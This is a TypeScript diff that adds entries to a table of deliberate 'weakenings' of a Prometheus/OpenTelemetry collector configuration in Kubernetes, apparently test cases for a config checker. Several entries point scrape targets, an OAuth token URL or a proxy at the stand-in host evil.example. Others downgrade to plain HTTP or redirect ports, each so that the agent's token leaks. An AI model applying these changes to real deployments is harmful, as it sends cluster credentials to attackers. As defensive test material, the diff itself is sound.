@@ -5,6 +5,8 @@ import type { Tree, Weakening, Weakenings } from "../draft";
 const agent = (path: string, value: unknown): Weakening[1] => set(AGENT, `${CONFIG}/${path}`, value);
 const PODS = "receivers/prometheus/config/scrape_configs/0";
 const STORE = "receivers/prometheus/config/scrape_configs/4";
+const KUBELET = "receivers/prometheus/config/scrape_configs/5";
+const CONTAINERS = "receivers/prometheus/config/scrape_configs/6";
 const HONOURED = "receivers/prometheus/config/scrape_configs/2";
 const VERIFIED = "receivers/prometheus/config/scrape_configs/1";
 
@@ -39,6 +41,29 @@ export const SCRAPES: Weakenings = {
   "oauth-to-every-pod": [
     "a token for every pod",
     agent(`${PODS}/oauth2`, { client_id: "x", token_url: "https://evil.example" }),
+  ],
+  "token-to-another-address": [
+    "an address outside gets the agent's token",
+    agent(`${KUBELET}/static_configs/+`, { targets: ["evil.example"] }),
+  ],
+  "token-to-another-port": [
+    "whoever has that port of the node gets the agent's token",
+    agent(`${CONTAINERS}/relabel_configs/0/replacement`, "$$1:30080"),
+  ],
+  "token-in-plain-text": ["the agent's token without TLS", agent(`${KUBELET}/scheme`, "http")],
+  "token-to-every-discovered-pod": [
+    "pods get the agent's token beside the kubelet",
+    agent(`${CONTAINERS}/kubernetes_sd_configs`, [
+      { role: "pod", selectors: [{ role: "pod", field: "spec.nodeName=${env:KUBE_NODE_NAME}" }] },
+    ]),
+  ],
+  "kubelet-runs-commands": [
+    "the agent reads logs and Secrets by the kubelet",
+    agent(`${KUBELET}/metrics_path`, "/pods"),
+  ],
+  "containers-of-another-pod": [
+    "a container names the pod whose series it has",
+    agent(`${CONTAINERS}/metric_relabel_configs/4/source_labels`, ["image"]),
   ],
   "proxy-for-pods": ["scrapes through a proxy", agent(`${PODS}/proxy_url`, "http://evil.example")],
   "honour-every-pod": [
